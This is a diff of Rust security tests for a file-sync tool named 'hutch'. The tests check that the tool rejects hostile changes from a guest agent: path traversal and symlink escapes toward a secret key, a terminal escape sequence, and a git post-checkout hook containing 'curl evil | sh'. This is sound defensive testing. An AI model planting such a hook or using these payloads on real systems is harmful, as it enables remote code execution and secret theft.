@@ -17,22 +17,38 @@ use hutch_tests::{binaries, code, stderr, stdout};
 
 fn hutch(agent: &HostileAgent) -> Command {
     let mut cmd = Command::new(&binaries().hutch);
-    cmd.env("HUTCH_ADDR", &agent.addr).env("HUTCH_CALL_TIMEOUT", "10").env_remove("HUTCH_TOKEN_FILE").env_remove("HUTCH_LOG").stdin(Stdio::null());
+    cmd.env("HUTCH_ADDR", &agent.addr)
+        .env("HUTCH_CALL_TIMEOUT", "10")
+        .env_remove("HUTCH_TOKEN_FILE")
+        .env_remove("HUTCH_LOG")
+        .stdin(Stdio::null());
     cmd
 }
 
 /// A changed file `path` whose guest contents are `data` (added in the guest).
 fn added(path: &[u8], data: &[u8]) -> Vec<Step> {
-    let current = ManifestEntry { path: path.to_vec(), kind: EntryKind::EntryFile as i32, mode: 0o644, size: data.len() as u64, ..Default::default() };
+    let current = ManifestEntry {
+        path: path.to_vec(),
+        kind: EntryKind::EntryFile as i32,
+        mode: 0o644,
+        size: data.len() as u64,
+        ..Default::default()
+    };
     let entry = ChangedEntry { path: path.to_vec(), synced: None, current: Some(current) };
-    vec![msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }), msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) })]
+    vec![
+        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }),
+        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) }),
+    ]
 }
 
 /// A file `path` the guest modified (synced as the host has it now, if it has it).
 fn modified(path: &[u8], data: &[u8]) -> Vec<Step> {
     let file = |size| ManifestEntry { path: path.to_vec(), kind: EntryKind::EntryFile as i32, mode: 0o644, size, ..Default::default() };
     let entry = ChangedEntry { path: path.to_vec(), synced: Some(file(1)), current: Some(file(data.len() as u64)) };
-    vec![msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }), msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) })]
+    vec![
+        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Entry(entry)) }),
+        msg(&SnapshotDiffResponse { kind: Some(DiffKind::Data(data.to_vec())) }),
+    ]
 }
 
 /// A project with a file, a symlink out of it (`out -> ../secret`), and a
@@ -60,13 +76,14 @@ fn paths_out_of_the_project_or_forging_patch_lines_end_the_diff_and_nothing_outs
         ("an escape sequence", b"x\x1b]52;c;eA==\x07"),
         ("an empty component", b"src//a.txt"),
     ] {
-        let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", modified(path, b"new\n")));
-        for args in [&["diff", "--workspace", ws_arg][..], &["diff", "--apply", "--workspace", ws_arg]] {
-            let out = hutch(&agent).args(args).output().unwrap();
-            assert_eq!(code(&out), 125, "{case}, hutch {args:?}: {}", stderr(&out));
-            assert!(!stdout(&out).contains("SECRET") && !stdout(&out).contains("root:"), "{case}: {}", stdout(&out));
-            assert!(!stdout(&out).contains("+++ b/../"), "{case}: {}", stdout(&out));
-        }
+        // A good change first: the patch of a diff broken off later is never printed.
+        let script = [added(b"0-first.txt", b"fine\n"), modified(path, b"new\n")].concat();
+        let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", script));
+        let out = hutch(&agent).args(["diff", "--workspace", ws_arg]).output().unwrap();
+        assert_eq!(code(&out), 125, "{case}: {}", stderr(&out));
+        assert_eq!(stdout(&out), "", "{case}: a patch was printed for a diff the agent broke");
+        let out = hutch(&agent).args(["diff", "--apply", "--workspace", ws_arg]).output().unwrap();
+        assert_eq!(code(&out), 125, "{case}, --apply: {}", stderr(&out));
     }
     assert_eq!(std::fs::read_to_string(root.join("secret/key")).unwrap(), "SECRET-KEY\n");
 }
@@ -75,8 +92,12 @@ fn paths_out_of_the_project_or_forging_patch_lines_end_the_diff_and_nothing_outs
 fn a_symlink_of_the_project_or_git_on_the_way_is_left_out_with_a_warning() {
     let (_dir, root) = project();
     let ws = root.join("ws");
-    let script: Vec<Step> = [modified(b".git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n"), modified(b"out/key", b"stolen\n"), added(b"src/b.txt", b"two\n")]
-        .concat();
+    let script: Vec<Step> = [
+        modified(b".git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n"),
+        modified(b"out/key", b"stolen\n"),
+        added(b"src/b.txt", b"two\n"),
+    ]
+    .concat();
     let agent = HostileAgent::start(Plan::new().with_info().on("SnapshotDiff", script));
     let out = hutch(&agent).args(["diff", "--workspace", ws.to_str().unwrap()]).output().unwrap();
     assert_eq!(code(&out), 0, "{}", stderr(&out));
@@ -151,7 +172,8 @@ fn down_removes_only_heavy_dir_links_that_are_the_projects() {
     };
 
     // A link outside the project: refused at `up`, never removed.
-    let outside_link = PrepareResponse { workspace: ws.to_str().unwrap().into(), heavy: vec![heavy(&outside.join("victim"), "/var/lib/hutch/local/x")] };
+    let outside_link =
+        PrepareResponse { workspace: ws.to_str().unwrap().into(), heavy: vec![heavy(&outside.join("victim"), "/var/lib/hutch/local/x")] };
     agent.set_plan(Plan::new().with_info().answer("Prepare", &outside_link));
     let up = fake.run(&["up", "--name", "web", "--image", "base", "--workspace", ws.to_str().unwrap()]);
     assert_eq!(code(&up), 125, "{}", stderr(&up));
@@ -159,7 +181,10 @@ fn down_removes_only_heavy_dir_links_that_are_the_projects() {
     assert!(outside.join("victim").symlink_metadata().is_ok(), "a symlink outside the project was removed");
 
     // A link through a symlink of the project: recorded, but never followed to be removed.
-    let through = PrepareResponse { workspace: ws.to_str().unwrap().into(), heavy: vec![heavy(&ws.join("escape/node_modules"), "/var/lib/hutch/local/nm")] };
+    let through = PrepareResponse {
+        workspace: ws.to_str().unwrap().into(),
+        heavy: vec![heavy(&ws.join("escape/node_modules"), "/var/lib/hutch/local/nm")],
+    };
     agent.set_plan(Plan::new().with_info().answer("Prepare", &through));
     let up = fake.run(&["up", "--name", "web", "--image", "base", "--workspace", ws.to_str().unwrap()]);
     assert_eq!(code(&up), 0, "{}", stderr(&up));
